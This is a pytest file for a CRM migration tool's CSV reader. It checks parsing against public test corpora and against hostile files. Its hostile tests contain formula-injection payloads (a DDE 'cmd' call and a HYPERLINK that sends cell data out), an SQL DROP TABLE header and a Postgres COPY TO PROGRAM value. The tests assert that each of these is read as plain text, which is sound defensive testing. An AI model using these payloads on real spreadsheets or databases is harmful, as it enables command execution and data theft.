"""Files that others wrote to try readers, with the right answer."""

import json
from pathlib import Path

import pytest

from crm_migration.errors import SourceUnreadable
from crm_migration.mapping.reading import DelimitedOptions
from tests.extract.delimited.reading import Outcome, opened, read, write

SPECTRUM = [
    "comma_in_quotes",
    "empty",
    "empty_crlf",
    "escaped_quotes",
    "json",
    "newlines",
    "newlines_crlf",
    "quotes_and_newlines",
    "simple",
    "simple_crlf",
    "utf8",
]


@pytest.mark.parametrize("name", SPECTRUM)
def test_csv_spectrum(shared_data: Path, tmp_path: Path, name: str) -> None:
    folder = shared_data / "files/csv-spectrum"
    truth = json.loads((folder / f"json/{name}.json").read_text(encoding="utf-8"))
    content = (folder / f"csvs/{name}.csv").read_bytes()
    if name.endswith("_crlf") and b"\r" not in content:
        # The copy went through a checkout that took the CR away, which its name and its truth tell of.
        content = content.replace(b"\n", b"\r\n")

    found = read(write(tmp_path, content))

    assert [dict(zip(found.columns, row, strict=True)) for row in found.kept] == truth
    assert found.rejected == []


def test_csv_spectrum_is_complete(shared_data: Path) -> None:
    assert sorted(path.stem for path in (shared_data / "files/csv-spectrum/csvs").iterdir()) == SPECTRUM


FRICTIONLESS = {  # rows kept, lines rejected
    "accent": (2, []),
    "blank-cells": (5, []),
    "blank-headers": (2, []),
    "blank-rows": (2, []),
    "blank-rows-multiple": (2, []),
    "bom": (2, []),
    "defective-rows": (0, [2, 3]),
    "delimiter": (2, []),
    "dialect": (1, [3]),
    "doublequote": (5, []),
    "duplicate-rows": (3, []),
    "empty": (0, []),
    "encoding-issue-274": (507, []),
    "escaping": (3, []),
    "floats": (5, []),
    "issue-1105-timezone": (2, []),
    "issue-277": (75, []),
    "issue-825": (2, []),
    "issue-833": (3, []),
    "latin1": (2, []),
}
REFUSED = {"duplicate-headers": "'id' more than once", "invalid": "'name' more than once"}


@pytest.mark.parametrize("name", FRICTIONLESS)
def test_frictionless(shared_data: Path, name: str) -> None:
    kept, rejected = FRICTIONLESS[name]

    found = read(shared_data / f"files/frictionless/{name}.csv")

    assert (len(found.kept), [line for line, *_ in found.rejected]) == (kept, rejected)
    assert set(found.faults.values()) <= {"ragged"}


@pytest.mark.parametrize("name", REFUSED)
def test_frictionless_files_without_clear_names_are_refused(shared_data: Path, name: str) -> None:
    with pytest.raises(SourceUnreadable, match=f"{name}.csv: line 1: .*{REFUSED[name]}"):
        opened(shared_data / f"files/frictionless/{name}.csv")


def test_frictionless_is_complete(shared_data: Path) -> None:
    names = {path.stem for path in (shared_data / "files/frictionless").glob("*.csv")}

    assert names == {*FRICTIONLESS, *REFUSED}


def test_frictionless_values(shared_data: Path) -> None:
    def rows(name: str) -> Outcome:
        return read(shared_data / f"files/frictionless/{name}.csv")

    assert rows("bom").columns == ["id", "name"]
    assert rows("blank-headers").columns == ["id", "column_2", "age"]
    assert rows("blank-cells").kept[-1] == ("5", None)
    assert rows("escaping").kept == [("1", "Test line 1"), ("2", 'Test " line 2'), ("3", 'Test " line 3')]
    assert rows("issue-833").kept == [("1", '["a"]'), ("2", None), ("3", '["b"]')]
    assert rows("latin1").kept[1] == ("2", "©")
    assert rows("issue-825").columns == ["Musei", "2011", "2010"]


def test_clevercsv_airedale(shared_data: Path) -> None:
    found = read(shared_data / "files/clevercsv/airedale.csv")

    assert (len(found.kept), found.rejected, len(found.columns)) == (54, [], 8)
    assert found.kept[0][-2:] == ("3003126885", "43,774.58")


def test_clevercsv_imdb_has_escaped_separators(shared_data: Path) -> None:
    found = read(shared_data / "files/clevercsv/imdb.csv")

    assert (len(found.kept), found.rejected, len(found.columns)) == (100, [], 44)
    assert found.kept[64][2] == "Dr. Seltsam, oder wie ich lernte, die Bombe zu lieben (1964)"
    assert "escape guessed as '\\\\'" in found.reading.facts.notes


def test_clevercsv_milk_has_two_columns_of_one_name(shared_data: Path) -> None:
    with pytest.raises(SourceUnreadable, match=r"line 1: .*'INTERVENTION STOCKS Skimmed Milk Powder th. tonnes'"):
        opened(shared_data / "files/clevercsv/milk.csv")


ADVENTUREWORKS = {  # delimiter, record separator, columns, rows
    "AddressType": ("\t", None, 4, 6),
    "BusinessEntityContact": ("+|", "&|", 5, 909),
    "ContactType": ("\t", None, 3, 20),
    "CountryRegion": ("\t", None, 3, 238),
    "PhoneNumberType": ("+|", "&|", 3, 3),
    "SalesPerson": ("\t", None, 9, 17),
    "SalesReason": ("\t", None, 4, 10),
    "SalesTerritory": ("\t", None, 10, 10),
    "SpecialOffer": ("\t", None, 11, 16),
    "StateProvince": ("\t", None, 8, 181),
    "Store": ("+|", "&|", 6, 701),
}


@pytest.mark.parametrize("declared", [False, True])
@pytest.mark.parametrize("name", ADVENTUREWORKS)
def test_adventureworks(shared_data: Path, name: str, declared: bool) -> None:
    delimiter, separator, width, rows = ADVENTUREWORKS[name]
    path = shared_data / f"adventureworks/{name}.csv"
    text = path.read_text(encoding="utf-8-sig")
    expected = [record.split(delimiter) for record in text.split((separator or "") + "\n") if record.strip()]
    options = DelimitedOptions(delimiter=delimiter, record_separator=separator, header_row=0)

    found = read(path, options if declared else None)

    assert found.columns == [f"column_{number}" for number in range(1, width + 1)]
    assert [list(row) for row in found.kept] == [[value or None for value in record] for record in expected]
    assert (len(found.kept), found.rejected) == (rows, [])
    assert found.lines == list(range(1, rows + 1))


def test_adventureworks_is_complete(shared_data: Path) -> None:
    assert {path.stem for path in (shared_data / "adventureworks").glob("*.csv")} == set(ADVENTUREWORKS)


def hostile(shared_data: Path, name: str) -> Outcome:
    return read(shared_data / f"hostile/csv/{name}.csv")


def test_hostile_10000_columns_are_read(shared_data: Path) -> None:
    found = hostile(shared_data, "10000_columns")

    assert (len(found.columns), len(found.kept), found.rejected) == (10_000, 1, [])


def test_hostile_duplicate_headers_are_refused_by_name(shared_data: Path) -> None:
    with pytest.raises(SourceUnreadable, match=r"duplicate_headers.csv: line 1: .* found 'name' more than once"):
        hostile(shared_data, "duplicate_headers")


def test_hostile_formulas_are_text(shared_data: Path) -> None:
    found = hostile(shared_data, "formula_injection")

    assert found.rejected == []
    assert [row[0] for row in found.kept] == [str(number) for number in range(1, len(found.kept) + 1)]
    values = [row[1] for row in found.kept]
    assert values[0] == "=cmd|' /C calc'!A0"
    assert values[4:8] == ['=HYPERLINK("http://127.0.0.1:28999/?x="&A1,"click")', "\t=1+1", "\r=1+1", "\n=1+1"]
    assert found.lines[6:9] == [8, 10, 12]


def test_hostile_huge_field_is_read(shared_data: Path) -> None:
    found = hostile(shared_data, "huge_field_200k")

    assert found.rejected == []
    assert [len(row[1] or "") for row in found.kept] == [200_000, 2]


def test_hostile_lone_surrogate_is_rejected(shared_data: Path) -> None:
    assert hostile(shared_data, "lone_surrogate").faults == {2: "encoding"}


def test_hostile_mixed_encodings_cost_the_rows_that_are_not_utf8(shared_data: Path) -> None:
    found = hostile(shared_data, "mixed_encoding_rows")

    assert found.kept == [("2", "客户")]
    assert found.faults == {2: "encoding"}


def test_hostile_nul_byte_costs_its_row(shared_data: Path) -> None:
    found = hostile(shared_data, "nul_byte")

    assert found.kept == [("2", "ok")]
    assert found.rejected == [(2, "nul", "expected text, found a NUL byte", "1,Ac\0me")]


def test_hostile_values_of_sql_and_templates_are_text(shared_data: Path) -> None:
    found = hostile(shared_data, "sql_and_template_values")

    assert found.columns == ["id", "name", "email; DROP TABLE x--", '"quoted"', "select", "日本"]
    assert (len(found.kept), found.rejected) == (28, [])
    values = [row[1] for row in found.kept]
    assert values[1:5] == ['O\'Brien "Ob" \\ Sons', "a`b", "%s %(name)s {name} :name ?", "1; COPY t TO PROGRAM 'id'"]
    assert values[5] == "\\N"


def test_hostile_unclosed_quote_rejects_each_line_it_swallows(shared_data: Path) -> None:
    found = hostile(shared_data, "unclosed_quote")

    assert found.kept == []
    assert found.faults == {2: "quote", 3: "quote", 4: "quote"}
    assert all("opened on line 2" in message for _, _, message, _ in found.rejected)
